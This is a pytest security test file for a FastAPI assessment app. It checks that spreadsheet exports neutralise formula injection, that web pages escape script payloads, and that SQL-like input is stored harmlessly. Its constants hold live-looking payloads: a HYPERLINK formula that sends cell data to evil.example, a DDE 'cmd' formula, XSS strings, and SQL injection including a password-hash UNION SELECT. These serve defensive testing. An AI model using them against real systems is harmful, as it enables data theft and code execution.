"""Text that tries to be code: formulas in notes, file names and names end up as text in every
exported workbook; HTML and script in titles, notes, officer names and file names are escaped
on the pages (and run nothing in a real browser); text that looks like SQL is stored verbatim
and filters with it find nothing, with every table intact."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from openpyxl import load_workbook

from core.files import FileStore
from core.models import AuditEvent, Officer
from forms.models import Answer, CriteriaNode, Evidence
from tests.api.world import World, fill_and_submit
from tests.security.conftest import nothing_changes
from tests.web.conftest import csrf_of, officer_link, sign_in_officer, sign_in_staff

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]
SCRIPT = "<script>alert(1)</script>"
ATTR = '"><img src=x onerror=alert(2)>'
SQL = [
    "'; DROP TABLE answer; --",
    "1 OR 1=1",
    "x' UNION SELECT password_hash FROM backoffice_user --",
]


def _cells(data: bytes) -> list[Any]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


async def test_formulas_stay_text_in_every_workbook(
    api: httpx.AsyncClient, world: World, store: FileStore
) -> None:
    await fill_and_submit(world, "SNV", "lan", store=store)
    sheet = world.sheets["SNV"]
    for code, text in zip(("1.1.1", "1.1.2", "1.1.3", "1.2.1"), FORMULAS, strict=True):
        await Answer.filter(assessment_id=sheet.id, node__code=code).update(note=text)
    await Evidence.filter(answer__assessment_id=sheet.id).update(original_name=FORMULAS[0])
    await Officer.filter(id=world.officers["lan"].id).update(full_name=FORMULAS[1])
    admin = world.headers("admin")
    # audited user text (failed sign-ins of unknown names are no longer audited)
    viewer = world.users["viewer"].id
    await api.patch(f"/users/{viewer}", json={"full_name": FORMULAS[2]}, headers=admin)
    period, unit = world.period.id, sheet.unit_id  # type: ignore[attr-defined]
    workbooks = {
        "consolidated": f"/periods/{period}/exports/consolidated.xlsx",
        "scorecard": f"/periods/{period}/units/{unit}/scorecard.xlsx",
        "register": f"/periods/{period}/units/{unit}/evidence-register.xlsx",
        "audit": "/audit-events/export?format=xlsx",
    }
    for name, url in workbooks.items():
        r = await api.get(url, headers=admin)
        assert r.status_code == 200, (name, r.text[:300])
        cells = _cells(r.content)
        for c in cells:
            if c.data_type == "f":
                text = str(c.value)
                assert "HYPERLINK" not in text and "cmd" not in text and "SUM(1,2)" not in text
        found = [
            c for c in cells if isinstance(c.value, str) and any(f in c.value for f in FORMULAS)
        ]
        assert found, f"{name}: the text is missing"
        for c in found:
            assert c.data_type in ("s", "inlineStr"), (name, c.coordinate, c.value)
            if c.value.startswith(("=", "+", "-", "@")) and name != "audit":
                assert c.quotePrefix, (name, c.coordinate, c.value)


@pytest.fixture
async def hostile(world: World, store: FileStore) -> None:
    """Script in an item's title, an officer's name, a note and a file name."""
    await CriteriaNode.filter(code="1.1.1").update(title=f"Kế hoạch {SCRIPT}")
    await Officer.filter(id=world.officers["lan"].id).update(full_name=f"Lan {ATTR}")
    await fill_and_submit(world, "SNV", "lan", store=store)
    sheet = world.sheets["SNV"].id
    await Answer.filter(assessment_id=sheet, node__code="1.1.1").update(note=f"ghi chú {ATTR}")
    await Evidence.filter(answer__assessment_id=sheet).update(original_name=f"{SCRIPT}.pdf")


async def test_script_is_escaped_on_the_pages(
    client: httpx.AsyncClient, web_app: FastAPI, world: World, hostile: None
) -> None:
    assert (await sign_in_officer(client, web_app, world, "lan")).status_code == 303
    pages = {"officer sheet": (await client.get("/web/o/")).text}
    client.cookies.clear()
    assert (await sign_in_staff(client, "admin")).status_code == 303
    sheet = world.sheets["SNV"].id
    for path in ("/web/appraisal/{s}/items/1.1.1", "/web/units", "/web/progress", "/web/appraisal"):
        r = await client.get(path.format(s=sheet))
        assert r.status_code == 200, path
        pages[path] = r.text
    for where, html in pages.items():
        assert (
            SCRIPT not in html
            and ATTR not in html
            and "onerror=alert" not in html.replace("onerror=alert(2)&gt;", "")
        ), where
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in pages["officer sheet"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;.pdf" in pages["/web/appraisal/{s}/items/1.1.1"]
    assert "Lan &#34;&gt;&lt;img src=x onerror=alert(2)&gt;" in pages["/web/units"]


async def test_script_runs_nothing_in_a_real_browser(
    pages: Any, web_app: FastAPI, world: World, hostile: None
) -> None:
    page = await pages()
    dialogs: list[str] = []
    page.on("dialog", lambda d: dialogs.append(d.message))
    await page.goto(await officer_link(web_app, world, "lan"))
    await page.get_by_role("button", name="Đăng nhập").click()
    await page.wait_for_url("**/web/o/")
    await page.wait_for_load_state("networkidle")
    row = page.locator('tbody[id="item-1.1.1"]')
    assert SCRIPT in await row.inner_text()  # shown as text
    assert await page.locator("img[src=x]").count() == 0
    assert dialogs == []


async def test_text_that_looks_like_sql(
    client: httpx.AsyncClient,
    api: httpx.AsyncClient,
    web_app: FastAPI,
    world: World,
    data_dir: Path,
) -> None:
    assert (await sign_in_officer(client, web_app, world, "lan")).status_code == 303
    token = csrf_of((await client.get("/web/o/")).text)
    for version, text in enumerate(SQL):
        r = await client.post(
            "/web/o/items/1.1.2",
            data={"csrf": token, "version": str(version), "value": "y", "note": text},
        )
        assert r.status_code == 303, r.text[:300]
        answer = await Answer.get(assessment_id=world.sheets["SNV"].id, node__code="1.1.2")
        assert answer.note == text
    admin = world.headers("admin")
    async with nothing_changes(data_dir, allow_audit=("auth.failed",)):
        for text in SQL:
            for key in ("action", "entity", "entity_id"):
                r = await api.get("/audit-events", headers=admin, params={key: text})
                assert r.status_code in (200, 422), r.text
                if r.status_code == 200:
                    assert r.json()["total"] == 0
            r = await api.post("/auth/token", json={"username": "admin", "password": text})
            assert r.status_code == 401
        for params in ({"period": "1 OR 1=1"}, {"state": SQL[0]}, {"under": SQL[1]}):
            r = await client.get("/web/appraisal", params=params)
            assert r.status_code in (200, 303, 422), r.text[:300]
    # every table still there, the answers with them
    assert await Answer.filter(assessment_id=world.sheets["SNV"].id).count() == 1
    assert await AuditEvent.filter(action="auth.failed").count() == len(SQL)


async def test_control_characters_do_not_break_the_audit_export(
    api: httpx.AsyncClient, world: World
) -> None:
    """Text with control characters (which XML cannot carry) that reaches the audit trail, here
    an account's name, must not make the secretariat's export fail. (Failed sign-ins of unknown
    names, which anyone can send, are no longer audited at all.)"""
    viewer = world.users["viewer"].id
    admin = world.headers("admin")
    r = await api.patch(f"/users/{viewer}", json={"full_name": "a\x07\x1bb=1"}, headers=admin)
    assert r.status_code == 200
    # the account acts: its name is the audit event's actor name
    assert (await api.post("/auth/revoke", headers=world.headers("viewer"))).status_code == 204
    r = await api.get("/audit-events/export?format=xlsx", headers=admin)
    assert r.status_code == 200
    assert "ab=1" in [c.value for c in _cells(r.content)]
